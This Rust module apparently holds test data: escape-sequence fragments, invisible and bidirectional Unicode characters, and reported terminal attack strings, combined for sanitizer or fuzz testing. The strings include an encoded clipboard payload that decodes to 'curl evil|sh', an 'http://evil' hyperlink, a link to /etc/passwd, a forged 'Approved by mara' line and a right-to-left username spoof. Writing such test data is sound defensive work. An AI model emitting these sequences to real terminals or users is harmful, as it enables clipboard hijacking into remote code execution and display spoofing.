//! Hostile sequences as data: combinations of introducers, bodies and ends, and single invisible characters.

/// What begins a sequence.
pub(super) const INTRODUCERS: [&str; 16] = [
    "\u{1b}[", "\u{1b}]", "\u{1b}P", "\u{1b}X", "\u{1b}^", "\u{1b}_", "\u{1b}(", "\u{1b}#", "\u{1b} ",
    "\u{1b}k", "\u{9b}", "\u{9d}", "\u{90}", "\u{98}", "\u{9e}", "\u{9f}",
];

/// What may stand in one.
const BODIES: [&str; 12] = [
    "",
    "2J",
    "?1049h",
    "0;title",
    "52;c;ZXZpbA==",
    "8;;http://evil",
    "1337;File=inline=1:",
    "11;?",
    "777;notify;a;b",
    "31;8",
    "999999999999999999999999C",
    "4;1;rgb:ff/00/00",
];

/// What ends one, or does not.
const ENDS: [&str; 7] = ["", "\u{7}", "\u{1b}\\", "\u{9c}", "\u{18}", "\u{1b}", "\u{202e}"];

/// Characters that show nothing or turn the text around.
pub(super) const INVISIBLE: [char; 40] = [
    '\0',
    '\u{1}',
    '\u{5}',
    '\u{7}',
    '\u{8}',
    '\u{b}',
    '\u{c}',
    '\u{e}',
    '\u{f}',
    '\u{18}',
    '\u{1a}',
    '\u{7f}',
    '\u{80}',
    '\u{84}',
    '\u{85}',
    '\u{8d}',
    '\u{9c}',
    '\u{ad}',
    '\u{34f}',
    '\u{61c}',
    '\u{115f}',
    '\u{180e}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202d}',
    '\u{202e}',
    '\u{2060}',
    '\u{2066}',
    '\u{2069}',
    '\u{3164}',
    '\u{feff}',
    '\u{fffb}',
    '\u{e0001}',
    '\u{e0041}',
];

/// Attacks as they were reported.
const REPORTED: [&str; 16] = [
    "\u{1b}[20;1H\u{1b}[2KApproved by mara",
    "\u{1b}]0;prod\u{7}\u{1b}[21t",
    "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}",
    "\u{1b}]8;;file:///etc/passwd\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}[?1000h\u{1b}[?1003h",
    "\u{1b}[?2026h",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}[c\u{1b}[>c\u{1b}[6n",
    "\u{1b}]4;1;?\u{7}",
    "\u{1b}_Gf=24;AAAA\u{1b}\\",
    "\u{1b}Pq#0;2;0;0;0\u{1b}\\",
    "\u{1b}[5i print \u{1b}[4i",
    "\u{1b}[!p\u{1b}c",
    "user\u{202e}nimda\u{2066}",
    "x\u{fe0f}\u{fe0f}\u{fe0f}\u{fe01}\u{fe02}",
    "a\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}",
];

/// All of them.
pub(super) fn sequences() -> Vec<String> {
    let combined = INTRODUCERS.iter().flat_map(|introducer| {
        BODIES.iter().flat_map(move |body| ENDS.iter().map(move |end| format!("{introducer}{body}{end}")))
    });
    let single = INVISIBLE.iter().map(char::to_string);
    combined.chain(single).chain(REPORTED.map(str::to_owned)).collect()
}
